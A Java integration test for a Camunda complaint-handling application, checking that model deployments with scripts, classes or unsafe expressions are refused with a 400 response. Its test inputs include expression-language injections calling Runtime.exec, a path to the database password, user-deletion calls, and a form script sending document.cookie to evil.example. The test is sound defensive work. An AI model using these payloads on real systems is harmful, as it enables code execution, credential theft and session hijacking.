package nl.homepair.complaints.modeling;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import nl.homepair.complaints.IntegrationTest;
import org.camunda.bpm.engine.RepositoryService;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.context.ApplicationContext;
import org.springframework.http.ResponseEntity;

/**
 * A deployment cannot run arbitrary code (issue 12, item 6): an administrator who deploys
 * a model with a script, a Java class or an expression that calls anything but the
 * published beans gets a readable 400 from the engine REST API, and nothing is deployed.
 */
class DeploymentModelCheckTest extends IntegrationTest {

    static final String EXEC = "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('touch /tmp/pwned')}";

    @Autowired
    RepositoryService repositoryService;
    @Autowired
    ApplicationContext context;

    private static String process(String serviceTaskAttributes, String extra) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
                    xmlns:camunda="http://camunda.org/schema/1.0/bpmn" targetNamespace="http://homepair.nl/test">
                  <bpmn:process id="Process_Probe" isExecutable="true" camunda:historyTimeToLive="1">
                    <bpmn:startEvent id="StartEvent_Probe"/>
                    <bpmn:sequenceFlow id="Flow_ToTask" sourceRef="StartEvent_Probe" targetRef="ServiceTask_Probe"/>
                    <bpmn:serviceTask id="ServiceTask_Probe" %s>%s</bpmn:serviceTask>
                    <bpmn:sequenceFlow id="Flow_ToEnd" sourceRef="ServiceTask_Probe" targetRef="EndEvent_Probe"/>
                    <bpmn:endEvent id="EndEvent_Probe"/>
                  </bpmn:process>
                </bpmn:definitions>""".formatted(serviceTaskAttributes, extra);
    }

    private ResponseEntity<JsonNode> deploy(String fileName, String content) {
        return ModelerDeploy.deploy(as("beheerder"), fileName, content);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @ValueSource(strings = {
        "camunda:expression=\"" + EXEC + "\"",
        "camunda:expression=\"${execution.getProcessEngineServices().getIdentityService().deleteUser('beheerder')}\"",
        "camunda:expression=\"${identityService.deleteUser('beheerder')}\"",
        "camunda:expression=\"${workingDays.getClass().getClassLoader()}\"",
        "camunda:expression=\"${execution.processEngine}\"",
        // brackets around the base are the same base (the database password was one getter chain away)
        "camunda:expression=\"${(execution).processEngine.processEngineConfiguration.jdbcPassword}\"",
        "camunda:expression=\"${((execution))['processEngine']}\"",
        "camunda:expression=\"${complaintLifecycle.status(complaintId, (execution).processEngine)}\"",
        "camunda:expression=\"${(workingDays).clock}\"",
        "camunda:expression=\"${task.canceled}\"",
        "camunda:expression=\"${x['class']}\"",
        "camunda:class=\"java.lang.Runtime\"",
        "camunda:delegateExpression=\"${dataSource}\"",
        "camunda:expression=\"${fn:exec('ls')}\"",
    })
    void aServiceTaskThatRunsCodeIsRefused(String attributes) {
        long before = repositoryService.createDeploymentQuery().count();
        ResponseEntity<JsonNode> answer = deploy("probe.bpmn", process(attributes, ""));
        assertThat(answer.getStatusCode().value()).isEqualTo(400);
        assertThat(answer.getBody().get("message").asText()).contains("Deployment geweigerd", "ServiceTask_Probe", "workingDays");
        assertThat(repositoryService.createDeploymentQuery().count()).isEqualTo(before);
    }

    /**
     * Whether an end listener runs for an interrupted step is a plain fact of the execution, as the procedure's guards
     * read it: the deploy check accepts the question (the models' scenario tests run the guards themselves).
     */
    @Test
    void anEndListenerAskingWhetherItsStepWasCancelledIsAccepted() {
        ResponseEntity<JsonNode> answer = deploy("probe.bpmn", process("camunda:expression=\"${true}\"",
                "<bpmn:extensionElements><camunda:executionListener event=\"end\" expression=\"${execution.canceled ? null : true}\"/>"
                        + "</bpmn:extensionElements>"));
        assertThat(answer.getStatusCode().value()).as(String.valueOf(answer.getBody())).isEqualTo(200);
        repositoryService.deleteDeployment(answer.getBody().get("id").asText(), true);
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @ValueSource(strings = {
        "<bpmn:extensionElements><camunda:executionListener event=\"start\"><camunda:script scriptFormat=\"groovy\">'touch /tmp/x'.execute()</camunda:script></camunda:executionListener></bpmn:extensionElements>",
        "<bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script scriptFormat=\"javascript\">1</camunda:script></camunda:inputParameter></camunda:inputOutput></bpmn:extensionElements>",
        "<bpmn:extensionElements><camunda:executionListener event=\"start\" class=\"java.lang.Object\"/></bpmn:extensionElements>",
        "<bpmn:extensionElements><camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector></bpmn:extensionElements>",
    })
    void scriptsClassesAndConnectorsInsideATaskAreRefused(String extensions) {
        ResponseEntity<JsonNode> answer = deploy("probe.bpmn", process("camunda:expression=\"${true}\"", extensions));
        assertThat(answer.getStatusCode().value()).isEqualTo(400);
        assertThat(answer.getBody().get("message").asText()).contains("ServiceTask_Probe");
    }

    @Test
    void aScriptTaskAndAScriptConditionAreRefused() {
        String script = process("camunda:expression=\"${true}\"", "").replace("</bpmn:process>",
                "<bpmn:scriptTask id=\"ScriptTask_Probe\" scriptFormat=\"groovy\"><bpmn:script>1</bpmn:script></bpmn:scriptTask></bpmn:process>");
        assertThat(deploy("probe.bpmn", script).getBody().get("message").asText()).contains("ScriptTask_Probe", "scripttaak");
        String condition = process("camunda:expression=\"${true}\"", "").replace(
                "<bpmn:sequenceFlow id=\"Flow_ToEnd\" sourceRef=\"ServiceTask_Probe\" targetRef=\"EndEvent_Probe\"/>",
                "<bpmn:sequenceFlow id=\"Flow_ToEnd\" sourceRef=\"ServiceTask_Probe\" targetRef=\"EndEvent_Probe\">"
                        + "<bpmn:conditionExpression language=\"javascript\">true</bpmn:conditionExpression></bpmn:sequenceFlow>");
        ResponseEntity<JsonNode> answer = deploy("probe.bpmn", condition);
        assertThat(answer.getStatusCode().value()).isEqualTo(400);
        assertThat(answer.getBody().get("message").asText()).contains("Flow_ToEnd", "script");
    }

    /** Tasklist runs an embedded form's script in the session of whoever opens the task: a team lead's, an administrator's. */
    @Test
    void anEmbeddedFormAndAnyResourceButModelsAndFormsAreRefused() {
        long before = repositoryService.createDeploymentQuery().count();
        String withEmbeddedForm = process("camunda:expression=\"${true}\"", "").replace("<bpmn:startEvent id=\"StartEvent_Probe\"/>",
                "<bpmn:startEvent id=\"StartEvent_Probe\" camunda:formKey=\"embedded:deployment:registreren.html\"/>");
        ResponseEntity<JsonNode> answer = ModelerDeploy.deploy(as("beheerder"), Map.of("probe.bpmn", withEmbeddedForm,
                "registreren.html", "<form><script cam-script type=\"text/form-script\">fetch('https://evil.example/'"
                        + " + document.cookie)</script></form>"));
        assertThat(answer.getStatusCode().value()).isEqualTo(400);
        assertThat(answer.getBody().get("message").asText())
                .contains("StartEvent_Probe", "camunda:formKey", "camunda:formRef", "registreren.html", "alleen modellen");
        ResponseEntity<JsonNode> appForm = deploy("probe.bpmn", withEmbeddedForm.replace("embedded:deployment:registreren.html",
                "app:forms/registreren.html"));
        assertThat(appForm.getStatusCode().value()).isEqualTo(400);
        assertThat(appForm.getBody().get("message").asText()).contains("StartEvent_Probe", "camunda:formKey", "app:forms/registreren.html");
        ResponseEntity<JsonNode> script = deploy("helper.js", "alert(1)");
        assertThat(script.getStatusCode().value()).isEqualTo(400);
        assertThat(script.getBody().get("message").asText()).contains("helper.js", "alleen modellen");
        assertThat(repositoryService.createDeploymentQuery().count()).isEqualTo(before);
    }

    @Test
    void aDecisionTableInAnotherLanguageThanFeelIsRefused() {
        String dmn = """
                <?xml version="1.0" encoding="UTF-8"?>
                <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="Definitions_Probe" name="Probe" namespace="http://homepair.nl/test">
                  <decision id="Decision_Probe" name="Probe">
                    <decisionTable id="DecisionTable_Probe">
                      <input id="Input_Probe"><inputExpression id="InputExpression_Probe" typeRef="string" expressionLanguage="javascript">
                        <text>java.lang.Runtime.getRuntime().exec('ls')</text></inputExpression></input>
                      <output id="Output_Probe" name="result" typeRef="string"/>
                    </decisionTable>
                  </decision>
                </definitions>""";
        ResponseEntity<JsonNode> answer = deploy("probe.dmn", dmn);
        assertThat(answer.getStatusCode().value()).isEqualTo(400);
        assertThat(answer.getBody().get("message").asText()).contains("InputExpression_Probe", "FEEL");
    }

    @Test
    void aUserTaskWithoutDueDateOrTimerIsRefusedAndNothingIsDeployed() {
        long before = repositoryService.createDeploymentQuery().count();
        String model = process("camunda:delegateExpression=\"${sendMailDelegate}\"", "")
                .replace("<bpmn:endEvent id=\"EndEvent_Probe\"/>",
                        "<bpmn:userTask id=\"UserTask_Forever\" camunda:candidateGroups=\"handlers\"/><bpmn:endEvent id=\"EndEvent_Probe\"/>");

        ResponseEntity<JsonNode> answer = deploy("forever.bpmn", model);

        assertThat(answer.getStatusCode().value()).isEqualTo(400);
        assertThat(answer.getBody().get("message").asText())
                .contains("UserTask_Forever", "vervaldatum", "minstens een timer", "heeft een naam nodig");
        assertThat(repositoryService.createDeploymentQuery().count()).isEqualTo(before);
    }

    /** A mail step made with the Modeler's template, without the retry cycle a template cannot set. */
    @Test
    void aMailStepWithoutRetriesIsRefusedAndOneWithThemIsDeployed() {
        String inputs = "<bpmn:extensionElements>%s<camunda:inputOutput>"
                + "<camunda:inputParameter name=\"mailTemplate\">besluit</camunda:inputParameter>"
                + "<camunda:inputParameter name=\"mailRecipient\">COMPLAINANT</camunda:inputParameter>"
                + "</camunda:inputOutput></bpmn:extensionElements>";
        String step = "camunda:delegateExpression=\"${sendMailDelegate}\" camunda:asyncBefore=\"true\"";

        ResponseEntity<JsonNode> once = deploy("mail.bpmn", process(step, inputs.formatted("")));
        ResponseEntity<JsonNode> inline = deploy("mail.bpmn", process("camunda:delegateExpression=\"${sendMailDelegate}\"",
                inputs.formatted("<camunda:failedJobRetryTimeCycle>R10/PT30M</camunda:failedJobRetryTimeCycle>")));
        ResponseEntity<JsonNode> retried = deploy("mail.bpmn", process(step,
                inputs.formatted("<camunda:failedJobRetryTimeCycle>R10/PT30M</camunda:failedJobRetryTimeCycle>")));

        for (ResponseEntity<JsonNode> refused : List.of(once, inline)) {
            assertThat(refused.getStatusCode().value()).isEqualTo(400);
            assertThat(refused.getBody().get("message").asText()).contains("ServiceTask_Probe", "Retry time cycle", "R10/PT30M");
        }
        assertThat(retried.getStatusCode().value()).as(String.valueOf(retried.getBody())).isEqualTo(200);
        repositoryService.deleteDeployment(retried.getBody().get("id").asText(), true);
    }

    /**
     * A task of the manager's that opens the decision's form (a copy of *Besluit nemen* kept with its form) would record
     * the verdict and measures on the case again, unchecked, before or after the real decision.
     */
    @Test
    void aTaskThatRecordsTheOutcomeOfAStepTheApplicationReadsIsRefusedUnlessOnPurpose() {
        String model = process("camunda:delegateExpression=\"${sendMailDelegate}\"", "")
                .replace("<bpmn:endEvent id=\"EndEvent_Probe\"/>", "<bpmn:userTask id=\"UserTask_Copy\" name=\"Juridische toets\""
                        + " camunda:formRef=\"decideComplaint\" camunda:formRefBinding=\"latest\" camunda:candidateGroups=\"handlers\"/>"
                        + "<bpmn:endEvent id=\"EndEvent_Probe\"/>");
        String problem = "UserTask_Copy: het formulier 'decideComplaint' legt 'verdict' vast, de uitkomst van UserTask_Decide";

        ResponseEntity<JsonNode> copy = deploy("copy.bpmn", model);
        ResponseEntity<JsonNode> onPurpose = ModelerDeploy.deploy(as("manager"), Map.of("copy.bpmn", model), "Camunda Modeler",
                "juridische toets, bewust");

        assertThat(copy.getStatusCode().value()).isEqualTo(400);
        assertThat(copy.getBody().get("message").asText()).contains(problem,
                "outcome of a step the application reads recorded by another task");
        // (refused still, for the task's missing due date and timer, but not for this)
        assertThat(onPurpose.getBody().get("message").asText()).doesNotContain(problem).contains("UserTask_Copy");
    }

    /** The Modeler's deploy dialog has a Tenant ID field; the procedure's starts and routing know no tenants. */
    @Test
    void aDeploymentForATenantIsRefusedWithWhereToLeaveItEmpty() {
        String model = process("camunda:delegateExpression=\"${sendMailDelegate}\" camunda:asyncBefore=\"true\"",
                "<bpmn:extensionElements><camunda:failedJobRetryTimeCycle>R10/PT30M</camunda:failedJobRetryTimeCycle>"
                        + "<camunda:inputOutput><camunda:inputParameter name=\"mailTemplate\">besluit</camunda:inputParameter>"
                        + "<camunda:inputParameter name=\"mailRecipient\">COMPLAINANT</camunda:inputParameter>"
                        + "</camunda:inputOutput></bpmn:extensionElements>");
        long before = repositoryService.createDeploymentQuery().count();

        ResponseEntity<JsonNode> forATenant = ModelerDeploy.deploy(as("manager"), Map.of("tenant.bpmn", model),
                Map.of("deployment-name", "modeler", "deployment-source", "Camunda Modeler", "tenant-id", "homepair"));

        assertThat(forATenant.getStatusCode().value()).isEqualTo(400);
        assertThat(forATenant.getBody().get("message").asText())
                .contains("Deployment geweigerd", "Tenant ID is ingevuld ('homepair')", "Tenant ID leeg");
        assertThat(repositoryService.createDeploymentQuery().count()).isEqualTo(before);
        assertThat(repositoryService.createProcessDefinitionQuery().tenantIdIn("homepair").count()).isZero();

        ResponseEntity<JsonNode> withoutOne = ModelerDeploy.deploy(as("manager"), "tenant.bpmn", model);
        assertThat(withoutOne.getStatusCode().value()).as(String.valueOf(withoutOne.getBody())).isEqualTo(200);
        repositoryService.deleteDeployment(withoutOne.getBody().get("id").asText(), true);
    }

    @Test
    void aModelThatUsesThePublishedBeansAndVariablesIsDeployed() {
        String model = process("camunda:expression=\"${execution.setVariable('due', workingDays.deadline(now(), 5))}\"",
                "").replace("<bpmn:sequenceFlow id=\"Flow_ToEnd\" sourceRef=\"ServiceTask_Probe\" targetRef=\"EndEvent_Probe\"/>",
                "<bpmn:sequenceFlow id=\"Flow_ToEnd\" sourceRef=\"ServiceTask_Probe\" targetRef=\"EndEvent_Probe\">"
                        + "<bpmn:conditionExpression>${execution.getVariable('due') != null &amp;&amp; not empty execution.processBusinessKey}"
                        + "</bpmn:conditionExpression></bpmn:sequenceFlow>");
        ResponseEntity<JsonNode> answer = deploy("probe.bpmn", model);
        assertThat(answer.getStatusCode().value()).as(String.valueOf(answer.getBody())).isEqualTo(200);
        repositoryService.deleteDeployment(answer.getBody().get("id").asText(), true);
    }

    /** The models and forms of the repository, by path. */
    private static Map<String, byte[]> repositoryModels() throws IOException {
        Map<String, byte[]> repository = new LinkedHashMap<>();
        try (Stream<Path> models = Stream.concat(Files.list(Path.of("processes")), Files.list(Path.of("forms")))) {
            for (Path file : models.toList()) {
                repository.put(file.toString(), Files.readAllBytes(file));
            }
        }
        return repository;
    }

    @Test
    void everyModelAndFormOfTheProcedurePasses() throws IOException {
        Map<String, byte[]> repository = repositoryModels();
        assertThat(repository).isNotEmpty();
        assertThat(new ModelCheck(repositoryOnly(context)).problems(repository)).isEmpty();
        assertThat(PublishedBeans.NAMES).allSatisfy(name -> assertThat(context.containsBean(name)).as(name).isTrue());
    }

    /**
     * A manager who closes the case on the step or the flow just before the end, instead of on the end event, still
     * closes it: that passes; an end event of a reminder's side branch needs no outcome (the repository's models).
     */
    @Test
    void aCaseClosedOnTheStepOrTheFlowBeforeItsEndPasses() throws IOException {
        Map<String, byte[]> repository = repositoryModels();
        String procedure = "processes/complaintProcedure.bpmn";
        String model = new String(repository.get(procedure), java.nio.charset.StandardCharsets.UTF_8);
        String close = "<camunda:executionListener expression=\"${complaintLifecycle.close(complaintId, 'WITHDRAWN')}\" event=\"start\" />";
        String step = "<camunda:inputParameter name=\"mailTemplate\">klacht-ingetrokken</camunda:inputParameter>";
        String flow = "<camunda:executionListener expression=\"${otherParties.invited(execution)";
        assertThat(model).contains(close, step, flow);
        ModelCheck check = new ModelCheck(repositoryOnly(context));

        repository.put(procedure, model.replace(close, "").replace(flow, close.replace("start", "take") + flow).getBytes());
        assertThat(check.problems(repository)).isEmpty();
        String onTheStep = model.replace(close, "").replace("<camunda:inputOutput>\n            " + step,
                close.replace("start", "end") + "<camunda:inputOutput>\n            " + step);
        assertThat(onTheStep).contains("'WITHDRAWN')}\" event=\"end\"");
        repository.put(procedure, onTheStep.getBytes());
        assertThat(check.problems(repository)).isEmpty();
        repository.put(procedure, model.replace(close, "").getBytes());
        assertThat(check.problems(repository)).singleElement().asString().contains("EndEvent_Withdrawn", "niet afgesloten");
    }

    /** A small complaint procedure: a choice between two ways that join before one end, and a parallel side path. */
    private static String procedureWithTwoWays(String closeOnSecondWay) {
        String close = "<bpmn:extensionElements><camunda:executionListener expression=\"${complaintLifecycle.close(complaintId,"
                + " '%s')}\" event=\"%s\"/></bpmn:extensionElements>";
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
                    xmlns:camunda="http://camunda.org/schema/1.0/bpmn" targetNamespace="http://homepair.nl/test">
                  <bpmn:process id="complaintProcedure" isExecutable="true" camunda:historyTimeToLive="1">
                    <bpmn:startEvent id="StartEvent_1"/>
                    <bpmn:sequenceFlow id="F1" sourceRef="StartEvent_1" targetRef="Fork"/>
                    <bpmn:parallelGateway id="Fork"/>
                    <bpmn:sequenceFlow id="F2" sourceRef="Fork" targetRef="EndEvent_SidePath"/>
                    <bpmn:endEvent id="EndEvent_SidePath"/>
                    <bpmn:sequenceFlow id="F3" sourceRef="Fork" targetRef="Choice"/>
                    <bpmn:exclusiveGateway id="Choice" default="F5"/>
                    <bpmn:sequenceFlow id="F4" sourceRef="Choice" targetRef="Task_First"/>
                    <bpmn:sequenceFlow id="F5" sourceRef="Choice" targetRef="Task_Second"/>
                    <bpmn:task id="Task_First">%s</bpmn:task>
                    <bpmn:task id="Task_Second"/>
                    <bpmn:sequenceFlow id="F6" sourceRef="Task_First" targetRef="Join"/>
                    <bpmn:sequenceFlow id="F7" sourceRef="Task_Second" targetRef="Join">%s</bpmn:sequenceFlow>
                    <bpmn:exclusiveGateway id="Join"/>
                    <bpmn:sequenceFlow id="F8" sourceRef="Join" targetRef="EndEvent_Closed"/>
                    <bpmn:endEvent id="EndEvent_Closed"><bpmn:terminateEventDefinition/></bpmn:endEvent>
                  </bpmn:process>
                </bpmn:definitions>""".formatted(close.formatted("DECIDED", "end"),
                closeOnSecondWay.isEmpty() ? "" : close.formatted(closeOnSecondWay, "take")).strip();
    }

    /**
     * Two ways that each close the case with their own outcome (on a step, on a flow) may join before one end; one that
     * does not is named. A plain end after a parallel fork is left to the run (CaseClosedAtItsEnd).
     */
    @Test
    void aCaseClosedOnEachWayIntoOneEndPasses() {
        ModelCheck check = new ModelCheck(repositoryOnly(context));
        java.util.function.Function<String, List<String>> endProblems = model -> check.problems("procedure.bpmn",
                model.getBytes(java.nio.charset.StandardCharsets.UTF_8)).stream()
                .filter(problem -> problem.contains("end of the procedure without an outcome")).toList();

        assertThat(endProblems.apply(procedureWithTwoWays("RESOLVED_BY_MEDIATION"))).isEmpty();
        assertThat(endProblems.apply(procedureWithTwoWays(""))).singleElement().asString()
                .contains("EndEvent_Closed", "niet afgesloten");
    }

    /** The application's beans and groups, and nothing deployed yet: what a first start-up deploys into. */
    static ModelEnvironment repositoryOnly(ApplicationContext context) {
        return new ModelEnvironment() {
            @Override
            public boolean isBean(String name) {
                return context.containsBean(name);
            }

            @Override
            public Class<?> beanType(String name) {
                return context.containsBean(name) ? context.getType(name) : null;
            }

            @Override
            public boolean formDeployed(String formKey) {
                return false;
            }

            @Override
            public boolean processDeployed(String processKey) {
                return false;
            }

            @Override
            public boolean decisionDeployed(String decisionKey) {
                return false;
            }

            @Override
            public boolean groupExists(String groupId) {
                return nl.homepair.complaints.security.Groups.WORKFLOW.contains(groupId);
            }
        };
    }
}
